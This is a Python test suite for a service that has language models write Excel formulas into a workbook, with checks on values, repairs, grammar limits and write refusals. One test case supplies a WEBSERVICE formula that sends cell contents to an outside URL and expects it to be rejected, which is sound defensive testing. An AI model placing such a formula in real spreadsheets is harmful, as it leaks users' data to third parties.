"""`excel/formula` in the house: a formula that evaluates, in the workbook, with values; or an error."""

import io
import zipfile

import openpyxl
import pytest
from msgspec import json, to_builtins
from openpyxl.chart import BarChart, Reference

from signalbox.domain.errors import AttemptsExhausted, MalformedRequest
from signalbox.domain.traits import Capability
from signalbox.testing.fake_provider import Script
from signalbox.testing.house import House
from signalbox.testing.permit_all import PERMIT_ALL
from signalbox.testing.values import ALL_CAPABILITIES, endpoint, principal, ranked, tenant
from signalbox.workloads.asking import PipelineAsker
from signalbox.workloads.excel.formula import FORMULA, question
from signalbox.workloads.excel.grammar import formula_grammar
from signalbox.workloads.excel.opening import opened
from signalbox.workloads.excel.ordering import Order, carried_out, target_of
from signalbox.workloads.excel.sight import described, tables
from signalbox.workloads.excel.writing import WriteRefused
from signalbox.workloads.reading.unreadable import Unreadable
from signalbox.workloads.registry import File, Result

GOOD = "=B2*VLOOKUP(A2,'Price list'!$A$2:$B$4,2,FALSE)"


def workbook() -> bytes:
    """Orders with a total below, a chart and a merged cell; a price list on another sheet."""
    book = openpyxl.Workbook()
    orders = book.active
    assert orders is not None
    orders.title = "Orders"
    for row in [("Item", "Pieces", "When"), ("Lamp", 4, "x"), ("Chair", 12, "y"), ("Lamp", 1, "z")]:
        orders.append(row)
    orders["B6"] = "=SUM(D2:D4)"
    orders.merge_cells("F1:G2")
    chart = BarChart()
    chart.add_data(Reference(orders, min_col=2, min_row=1, max_row=4), titles_from_data=True)
    orders.add_chart(chart, "I2")
    prices = book.create_sheet("Price list")
    for price in [("Item", "Price"), ("Lamp", 25), ("Chair", 110), ("Desk", 300)]:
        prices.append(price)
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def house() -> House:
    """A vendor's models: they take a schema, and no grammar."""
    takes = ALL_CAPABILITIES & ~Capability.GRAMMAR
    known = ranked(endpoint("a", capabilities=takes), endpoint("b", capabilities=takes))
    return House(PERMIT_ALL, known, [tenant()])


def says(formula: str) -> Script:
    return Script(text=json.encode({"formula": formula}).decode())


def asker(rooms: House) -> PipelineAsker:
    return PipelineAsker(rooms.pipeline, principal(), rooms.pipeline.operation(60_000))


async def ordered(rooms: House, **params: object) -> Result:
    given = {"prompt": "what each order comes to", "target": "Orders!D2:D4", **params}
    file = File("orders.xlsx", workbook())
    return await carried_out(asker(rooms), Order(**given), file)  # type: ignore[arg-type]


async def test_a_formula_comes_with_values_explanation_and_the_workbook() -> None:
    rooms = house()
    rooms.provider.default = says(GOOD)
    result = await ordered(rooms, header="Amount")
    answer = to_builtins(result.answer)
    assert answer["target_range"] == "Orders!D2:D4"
    assert answer["formula"] == GOOD
    assert list(answer["values"]) == [100.0, 1320.0, 25.0]
    assert "“Pieces” (B2)" in answer["explanation"]
    assert any("“Item”" in said for said in answer["assumptions"])
    (file,) = result.files
    cached = openpyxl.load_workbook(io.BytesIO(file.content), data_only=True)["Orders"]
    assert [cached[f"D{row}"].value for row in (1, 2, 3, 4)] == ["Amount", 100, 1320, 25]
    assert cached["B6"].value == 1445, "what depends on it is brought up to date"
    formulas = openpyxl.load_workbook(io.BytesIO(file.content))["Orders"]
    assert formulas["D3"].value == "=B3*VLOOKUP(A3,'Price list'!$A$2:$B$4,2,FALSE)"


async def test_everything_else_of_the_file_stays_as_it_was() -> None:
    rooms = house()
    rooms.provider.default = says(GOOD)
    (file,) = (await ordered(rooms)).files
    before, after = zipfile.ZipFile(io.BytesIO(workbook())), zipfile.ZipFile(io.BytesIO(file.content))
    assert before.namelist() == after.namelist()
    changed = [name for name in before.namelist() if before.read(name) != after.read(name)]
    assert set(changed) <= {"xl/workbook.xml", "xl/worksheets/sheet1.xml", "docProps/core.xml"}
    assert after.read("xl/charts/chart1.xml")


async def test_newer_functions_are_stored_under_their_own_names() -> None:
    rooms = house()
    rooms.provider.default = says("=XLOOKUP(A2,'Price list'!A:A,'Price list'!B:B)*B2")
    (file,) = (await ordered(rooms)).files
    sheet = zipfile.ZipFile(io.BytesIO(file.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "_xlfn.XLOOKUP(A2," in sheet


async def test_what_the_gate_refuses_is_repaired_with_its_words_and_then_asked_elsewhere() -> None:
    rooms = house()
    rooms.provider.will("a", says("=B2*Prices!B2"), says("=SUMM(B2"))
    rooms.provider.will("b", says(GOOD))
    result = await ordered(rooms)
    assert to_builtins(result.answer)["formula"] == GOOD
    assert [intent.hop for intent in rooms.log.intents] == ["primary", "repair", "fallback"]
    words = rooms.provider.calls[1].request.messages[-1].parts[0].text  # type: ignore[union-attr]
    assert "there is no sheet `Prices`" in words


async def test_a_model_on_this_machine_is_held_to_the_grammar_and_writes_no_json() -> None:
    rooms = House(PERMIT_ALL, ranked(endpoint("a")), [tenant()])
    rooms.provider.default = Script(text=GOOD)
    assert to_builtins((await ordered(rooms)).answer)["formula"] == GOOD
    asked = rooms.provider.calls[0].request.response_format
    assert asked is not None
    assert asked.grammar is not None
    assert "'Price list'!" in asked.grammar.gbnf


@pytest.mark.parametrize(
    "reply",
    [
        says('=WEBSERVICE("http://example.org/?q="&A2)'),
        says("=D2"),
        says("Sure: multiply the columns."),
        Script(text="I cannot help with that."),
        Script(text='{"formula": "=B2'),
        Script(text='{"formula": 4}'),
        Script(text='{"formula": "=B2", "note": "ok"}'),
    ],
)
async def test_without_a_formula_that_passes_there_is_an_error_and_no_file(reply: Script) -> None:
    rooms = house()
    rooms.provider.default = reply
    with pytest.raises(AttemptsExhausted):
        await ordered(rooms)


async def test_what_the_words_of_the_task_come_to_stands_in_and_says_so() -> None:
    rooms = house()
    rooms.provider.default = Script(text="I cannot help with that.")
    made = await ordered(rooms, prompt="Amount = Pieces * 2.", header="Amount", overwrite=True)
    answer = to_builtins(made.answer)
    assert answer["formula"] == "=B2*2"
    assert "no model's formula passed" in answer["assumptions"][0]


async def test_fences_and_prose_around_the_json_do_no_harm() -> None:
    rooms = house()
    rooms.provider.default = Script(text='Here you are:\n```json\n{"formula": "=B2*2"}\n```')
    assert to_builtins((await ordered(rooms)).answer)["formula"] == "=B2*2"


@pytest.mark.parametrize(
    ("target", "error", "words"),
    [
        ("B2:B4", WriteRefused, "not empty"),
        ("Nowhere!D2", MalformedRequest, "there are `Orders`, `Price list`"),
        ("D2 to D4", MalformedRequest, "no cell or range"),
        ("A1:XFD1048576", MalformedRequest, "at most"),
        ("G2", WriteRefused, "merged"),
    ],
)
async def test_a_place_that_cannot_be_written_to_is_said(target: str, error: type, words: str) -> None:
    rooms = house()
    rooms.provider.default = says("=SUM(B2:B4)")
    with pytest.raises(error, match=words):
        await ordered(rooms, target=target)


async def test_without_a_place_the_first_free_column_is_taken() -> None:
    book = await opened(workbook())
    assert target_of(book, "", "Price list").a1 == "C2:C4"


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 no zip", workbook()[:2_000]])
async def test_a_broken_workbook_is_unreadable(content: bytes) -> None:
    with pytest.raises(Unreadable):
        await opened(content)


async def test_a_model_is_shown_addresses_names_and_kinds() -> None:
    book = await opened(workbook())
    said = described(tables(book), target_of(book, "Orders!D2", ""))
    assert "'Price list'!B2:B4 \"Price\" number: 25, 110, 300" in said
    assert 'A2:A6 "Item" text: "Lamp", "Chair"' in said


async def test_a_column_that_is_to_be_filled_is_not_shown_as_one_to_compute_with() -> None:
    saved = io.BytesIO()
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Price list"]["C1"] = "With tax"
    book.save(saved)
    known = await opened(saved.getvalue())
    asked = question(known, "with 19 % tax", target_of(known, "'Price list'!C2:C4", "")).question
    assert "C2:C4" not in asked.content
    assert 'of the column "With tax"' in asked.task


def test_the_grammar_knows_the_sheets_and_columns_that_are_there() -> None:
    grammar = formula_grammar(["Orders", "It's"], 3)
    assert "'It''s'!" in grammar
    assert 'column ::= "A" | "B" | "C"\n' in grammar
    assert '"WEBSERVICE"' not in grammar
    assert 'column ::= "A" | "C"\n' in formula_grammar(["Orders"], 3, without="B")
    assert FORMULA.grammar is not None
